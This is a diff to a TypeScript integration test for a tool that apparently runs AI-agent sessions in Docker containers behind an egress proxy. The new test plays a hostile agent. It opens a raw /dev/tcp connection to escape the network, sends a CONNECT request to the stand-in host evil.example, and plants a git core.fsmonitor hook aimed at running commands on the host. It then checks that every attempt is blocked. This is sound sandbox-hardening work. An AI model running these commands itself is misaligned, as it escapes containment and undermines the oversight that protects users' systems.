@@ -8,8 +8,8 @@ import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import { labels } from '../scripts/lib/config.ts';
 import { docker } from '../scripts/lib/docker.ts';
-import { scriptCommand, SESSION_IMAGE, sessionTestImage, detachedArgs } from './support/images.ts';
-import { RUN_ID, TEST_LABEL, onCleanup, tempDir, trackImage } from './support/resources.ts';
+import { scriptCommand, SESSION_IMAGE, sessionTestImage, detachedArgs, testEgressImage } from './support/images.ts';
+import { RUN_ID, TEST_LABEL, onCleanup, tempDir, trackImage, uniqueName } from './support/resources.ts';
 
 const AUTH_IMAGE = SESSION_IMAGE;
 const USER_IMAGE = trackImage(`para-hosts-test-${RUN_ID}:user`);
@@ -27,7 +27,14 @@ async function freeId(): Promise<number> {
 function asUser(command: string, args: string[], options: { cwd?: string } = {}) {
   return execa('setpriv', [`--reuid=${user.uid}`, `--regid=${user.uid}`, '--init-groups', '--', command, ...args], {
     cwd: options.cwd ?? user.repo,
-    env: { HOME: user.home, PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: '1', PARA_EXTRA_LABELS: `${TEST_LABEL}=${RUN_ID}`, TMPDIR: user.home },
+    env: {
+      HOME: user.home,
+      PATH: process.env.PATH,
+      GIT_CONFIG_NOSYSTEM: '1',
+      PARA_EXTRA_LABELS: `${TEST_LABEL}=${RUN_ID}`,
+      PARA_EGRESS_IMAGE: process.env.PARA_EGRESS_IMAGE,
+      TMPDIR: user.home,
+    },
     extendEnv: false,
     reject: false,
     stdin: 'ignore',
@@ -44,7 +51,7 @@ const nonRoot = suite("a non-root host user whose UID is the image's");
 
 nonRoot.before(async () => {
   if (process.getuid?.() !== 0) return;
-  await sessionTestImage();
+  await Promise.all([sessionTestImage(), testEgressImage()]);
   user.uid = await freeId();
   await execa('groupadd', ['-g', String(user.uid), user.name]);
   await execa('useradd', ['-M', '-u', String(user.uid), '-g', String(user.uid), '-G', 'docker', '-s', '/bin/sh', user.name]);
@@ -125,5 +132,62 @@ nonRoot("start, a commit inside, logs, sync, list, finish, cancel and clean all 
   const fsck = await asUser('git', ['fsck', '--strict', '--no-progress']);
   assert.is(fsck.exitCode, 0, fsck.stderr);
 });
+
+nonRoot(
+  "the default egress and a session in its volume (--engine remote), attacked as the agent: the user's repository stays the user's and intact",
+  async () => {
+    if (process.getuid?.() !== 0) return;
+    const network = uniqueName('para-hosts-net');
+    await docker(['network', 'create', '--label', `${TEST_LABEL}=${RUN_ID}`, network]);
+    onCleanup(() => docker(['network', 'rm', network], { allowFailure: true }));
+    const refsBefore = (await asUser('git', ['for-each-ref', '--format=%(refname) %(objectname)'])).stdout;
+    // The agent tries every way out but the proxy, and plants what root in the container could follow.
+    const attack = [
+      "timeout 3 bash -c 'exec 3<>/dev/tcp/1.1.1.1/443' 2>/dev/null && echo OUT-BY-ADDRESS",
+      "printf 'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n' | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -n 1 <&3'",
+      'echo agent > agent.txt && git add agent.txt && git commit -qm agent',
+      'git config core.fsmonitor "touch /tmp/fsmonitor-ran; true"',
+      'echo uncommitted > wip.txt',
+    ].join('; ');
+    const started = await para('start.ts', [
+      'guarded',
+      '--container',
+      '--detach',
+      '--engine',
+      'remote',
+      '--egress-network',
+      network,
+      '--image',
+      USER_IMAGE,
+      '--',
+      'bash',
+      '-c',
+      attack,
+    ]);
+    assert.is(started.exitCode, 0, started.stderr);
+    const logs = await para('logs.ts', ['guarded', '-f']);
+    assert.not.match(logs.stdout, 'OUT-BY-ADDRESS');
+    assert.match(logs.stdout, 'HTTP/1.1 403');
+    const files = await para('sync.ts', ['guarded', '--files', '--json']);
+    assert.is(files.exitCode, 0, files.stderr);
+    const finished = await para('finish.ts', ['guarded', '-m', 'done']);
+    assert.is(finished.exitCode, 0, finished.stderr);
+    assert.is((await asUser('git', ['show', 'para/guarded:wip.txt'])).stdout, 'uncommitted');
+    assert.is((await asUser('git', ['log', '-1', '--format=%s', 'para/guarded~1'])).stdout, 'agent');
+    // The host: refs outside para/ unchanged, the main checkout clean, nothing of root's in .git, fsck clean.
+    const refsAfter = (await asUser('git', ['for-each-ref', '--format=%(refname) %(objectname)'])).stdout;
+    const outside = (text: string) =>
+      text
+        .split('\n')
+        .filter((line) => !line.startsWith('refs/heads/para/'))
+        .join('\n');
+    assert.is(outside(refsAfter), outside(refsBefore));
+    assert.is((await asUser('git', ['status', '--porcelain'])).stdout, '');
+    assert.is((await execa('find', [path.join(user.repo, '.git'), '!', '-uid', String(user.uid)])).stdout, '');
+    assert.not.ok(await fs.pathExists('/tmp/fsmonitor-ran'), "the agent's fsmonitor ran on the host");
+    assert.is((await asUser('git', ['fsck', '--strict', '--no-progress'])).exitCode, 0);
+    assert.is((await docker(['ps', '-aq', '--filter', `label=${labels.repo}=${user.repo}`, '--filter', `label=${labels.session}=guarded`])).stdout.trim(), '');
+  },
+);
 
 nonRoot.run();
